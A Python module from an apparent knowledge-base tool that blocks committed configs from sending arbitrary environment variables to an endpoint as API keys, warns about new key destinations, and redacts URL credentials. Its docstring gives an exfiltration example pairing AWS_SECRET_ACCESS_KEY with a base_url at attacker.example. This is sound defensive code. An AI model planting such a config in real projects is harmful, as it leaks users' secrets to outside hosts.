"""Where API keys may come from and where they may go; URLs printed without credentials.

A config file is data from the repository: whoever can commit ``baseline.yaml`` chooses
``llm.api_key_env`` and ``llm.base_url``. Without a check, ``api_key_env: AWS_SECRET_ACCESS_KEY``
(or ``HOME``, ``GITHUB_TOKEN``...) plus ``base_url: https://attacker.example/v1`` would send
that variable off the machine as a bearer token. So:

- ``check_key_env``: only key-like variable names (``*_API_KEY``, ``*_TOKEN``, ``*_KEY``) are
  read, unless the user lists the name in ``WIKIRAG_ALLOW_KEY_ENV`` (comma-separated); a
  config naming any other variable that is set is refused with a ConfigError.
- ``key_destination_warning``: a config that sends a key to a host other than the one in
  ``OPENAI_BASE_URL`` (the user's own setting) gets a warning naming both hosts.
- ``new_host_warning``: the hosts each KB's configs have sent the key to are remembered in
  the user's config dir (``key_hosts.json``); a host not seen before for that KB is warned
  about once (a pulled commit that repoints ``base_url`` is noticed even without
  ``OPENAI_BASE_URL``). The file is outside the repository on purpose: a list kept under
  ``experiments/<kb>/`` could be committed with the new host already in it.
- ``redact_url`` / ``redact_urls``: ``user:password@`` in a URL is never printed.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Mapping
from pathlib import Path
from urllib.parse import urlsplit, urlunsplit

from engine.atomic import atomic_write_text
from engine.errors import ConfigError

ALLOW_KEY_ENV = "WIKIRAG_ALLOW_KEY_ENV"
ENV_BASE_URL = "OPENAI_BASE_URL"
CONFIG_DIR_ENV = "WIKIRAG_CONFIG_DIR"  # where the user's own state lives (tests point it away)
KEY_HOSTS_FILE = "key_hosts.json"
_KEY_LIKE = re.compile(r"^[A-Za-z][A-Za-z0-9_]*(?:_API_KEY|_TOKEN|_KEY)$", re.IGNORECASE)
# scheme://user[:password]@host — the credentials part of any URL inside free text
_URL_CREDENTIALS = re.compile(r"(?P<scheme>\b[a-zA-Z][a-zA-Z0-9+.-]*://)[^/@\s'\"]+@")


def is_key_like(name: str) -> bool:
    return bool(_KEY_LIKE.match(name))


def check_key_env(name: str, setting: str, env: Mapping[str, str] | None = None) -> None:
    """Raise ConfigError unless ``name`` may be read as an API key (see the module docstring)."""
    environ = os.environ if env is None else env
    if not name or is_key_like(name) or not environ.get(name):
        return  # an unset variable sends nothing
    confirmed = {n.strip() for n in environ.get(ALLOW_KEY_ENV, "").split(",") if n.strip()}
    if name in confirmed:
        return
    raise ConfigError(
        f"{setting} = {name!r} does not look like an API key variable (*_API_KEY, *_TOKEN, "
        f"*_KEY): a config could use it to send any environment variable to its endpoint. "
        f"If {name} really holds the key, confirm with {ALLOW_KEY_ENV}={name}"
    )


def _host(url: str) -> str:
    try:
        return (urlsplit(url.strip()).hostname or "").lower()
    except ValueError:
        return ""


def key_destination_warning(
    setting: str, base_url: str, env: Mapping[str, str] | None = None
) -> str | None:
    """A warning when a config's ``base_url`` sends a key to a host other than the user's own
    ``OPENAI_BASE_URL``; None when they agree or there is nothing to compare with."""
    environ = os.environ if env is None else env
    mine = _host(environ.get(ENV_BASE_URL, "") or "")
    theirs = _host(base_url)
    if not mine or not theirs or mine == theirs:
        return None
    return (
        f"{setting} sends the API key to {theirs}, not to {mine} (your {ENV_BASE_URL}); "
        f"check that the config (e.g. a committed baseline.yaml) is one you trust"
    )


def user_config_dir(env: Mapping[str, str] | None = None) -> Path:
    """``$WIKIRAG_CONFIG_DIR``, else ``$XDG_CONFIG_HOME/wikirag``, else ``~/.config/wikirag``."""
    environ = os.environ if env is None else env
    if environ.get(CONFIG_DIR_ENV):
        return Path(environ[CONFIG_DIR_ENV])
    base = environ.get("XDG_CONFIG_HOME") or str(Path.home() / ".config")
    return Path(base) / "wikirag"


def _seen_hosts(path: Path) -> dict[str, list[str]]:
    try:
        data = json.loads(path.read_text(encoding="utf-8"))
    except (OSError, ValueError):
        return {}  # missing or damaged: start again (worst case, one warning too many)
    if not isinstance(data, dict):
        return {}
    return {
        str(k): [str(h) for h in v] for k, v in data.items() if isinstance(v, list)
    }  # fmt: skip


def new_host_warning(
    setting: str, base_url: str, kb: str | Path, env: Mapping[str, str] | None = None
) -> str | None:
    """A warning the first time a config sends the key for knowledge base ``kb`` to the host
    of ``base_url``; None for a host seen before for that KB, or the user's own
    ``OPENAI_BASE_URL`` host. Records the host (atomically) either way."""
    environ = os.environ if env is None else env
    host = _host(base_url)
    if not host:
        return None
    path = user_config_dir(environ) / KEY_HOSTS_FILE
    seen = _seen_hosts(path)
    scope = str(Path(kb).resolve())
    hosts = seen.get(scope, [])
    if host in hosts:
        return None
    seen[scope] = sorted({*hosts, host})
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        atomic_write_text(path, json.dumps(seen, ensure_ascii=False, indent=1, sort_keys=True))
    except OSError:
        pass  # a read-only home: warn again next time rather than fail the command
    if host == _host(environ.get(ENV_BASE_URL, "") or ""):
        return None
    return (
        f"{setting} sends the API key to {host}, a host not used before with the knowledge "
        f"base {Path(kb).name}; check that the config (e.g. a committed baseline.yaml) is one "
        f"you trust (warned once; hosts seen are listed in {path})"
    )


def redact_url(url: str) -> str:
    """``url`` without ``user:password@`` (kept as ``***@`` so it is clear something was cut)."""
    try:
        parts = urlsplit(url)
    except ValueError:
        return redact_urls(url)
    if "@" not in parts.netloc:
        return url
    return urlunsplit(parts._replace(netloc="***@" + parts.netloc.rsplit("@", 1)[1]))


def redact_urls(text: str) -> str:
    """``text`` with the credentials of every URL in it replaced by ``***``."""
    return _URL_CREDENTIALS.sub(r"\g<scheme>***@", text)
